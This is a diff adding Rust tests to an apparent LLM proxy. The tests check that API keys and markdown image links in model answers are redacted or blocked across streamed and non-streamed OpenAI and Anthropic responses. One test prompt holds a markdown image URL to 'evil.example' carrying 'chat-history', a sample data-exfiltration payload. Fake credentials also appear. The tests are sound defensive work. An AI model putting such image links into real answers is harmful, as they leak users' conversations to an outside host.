@@ -216,3 +216,95 @@ fn guard_config_problems_are_named_by_path() {
         assert!(paths.contains(&path), "{path} in {paths:?}");
     }
 }
+
+/// The text of an OpenAI stream and its last finish reason.
+fn stream_text_and_finish(text: &str) -> (String, String) {
+    let events = parse_sse(text);
+    let finish = events
+        .iter()
+        .filter_map(|(_, data)| serde_json::from_str::<Value>(data).ok())
+        .filter_map(|chunk| {
+            chunk["choices"][0]["finish_reason"]
+                .as_str()
+                .map(str::to_owned)
+        })
+        .next_back()
+        .unwrap_or_default();
+    (openai_stream_text(&events), finish)
+}
+
+#[tokio::test]
+async fn secrets_and_image_links_in_answers_are_redacted_whole_and_streamed() {
+    let (setup, _) = setup("  output:\n    secrets: redact\n    markdown_images: redact\n").await;
+    let secret = "sk-proj-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789";
+    let prompt =
+        format!("the key is {secret} and ![logo](https://evil.example/p?q=chat-history) ok");
+    let expected = "the key is [OPENAI_KEY] and [MARKDOWN_IMAGE] ok";
+    let answer: Value = setup
+        .openai(&json!({"model": "gpt", "messages": [{"role": "user", "content": prompt}]}))
+        .await
+        .json()
+        .await
+        .expect("json");
+    assert_eq!(answer["choices"][0]["message"]["content"], expected);
+    // Streamed a few characters an event: the secret crosses many events.
+    for model in ["gpt", "claude"] {
+        let response = setup
+            .openai(&json!({"model": model, "stream": true,
+                "messages": [{"role": "user", "content": prompt}]}))
+            .await;
+        let (text, finish) = stream_text_and_finish(&response.text().await.expect("body"));
+        assert_eq!(
+            (text.as_str(), finish.as_str()),
+            (expected, "stop"),
+            "{model}"
+        );
+    }
+}
+
+#[tokio::test]
+async fn a_blocked_answer_ends_with_content_filter_and_nothing_of_it() {
+    let (setup, _) = setup("  output:\n    secrets: block\n").await;
+    let prompt = "here: AKIAIOSFODNN7EXAMPLE is the key";
+    let answer: Value = setup
+        .openai(&json!({"model": "gpt", "messages": [{"role": "user", "content": prompt}]}))
+        .await
+        .json()
+        .await
+        .expect("json");
+    assert_eq!(answer["choices"][0]["finish_reason"], "content_filter");
+    assert!(!answer.to_string().contains("AKIA"));
+    let response = setup
+        .openai(&json!({"model": "gpt", "stream": true,
+            "messages": [{"role": "user", "content": prompt}]}))
+        .await;
+    let body = response.text().await.expect("body");
+    let (text, finish) = stream_text_and_finish(&body);
+    assert_eq!(finish, "content_filter");
+    assert!(!text.contains("AKIA") && !body.contains("AKIA"), "{body}");
+    assert!(body.trim_end().ends_with("data: [DONE]"), "{body}");
+    // The Anthropic dialect ends the same stream with its own refusal.
+    let response = setup
+        .anthropic(
+            &json!({"model": "claude", "stream": true, "max_tokens": 100,
+            "messages": [{"role": "user", "content": prompt}]}),
+        )
+        .await;
+    let body = response.text().await.expect("body");
+    assert!(!body.contains("AKIA"), "{body}");
+    assert!(body.contains("\"stop_reason\":\"refusal\""), "{body}");
+    assert!(body.contains("event: message_stop"), "{body}");
+}
+
+#[tokio::test]
+async fn tokenized_values_are_not_taken_for_the_models_own_personal_data() {
+    let (setup, _) = setup("  pii:\n    action: tokenize\n  output:\n    pii: redact\n").await;
+    let answer: Value = setup
+        .openai(&json!({"model": "gpt", "messages": [{"role": "user", "content": prompt()}]}))
+        .await
+        .json()
+        .await
+        .expect("json");
+    // The model saw and echoed placeholders: nothing of its own to redact, all restored.
+    assert_eq!(answer["choices"][0]["message"]["content"], prompt());
+}
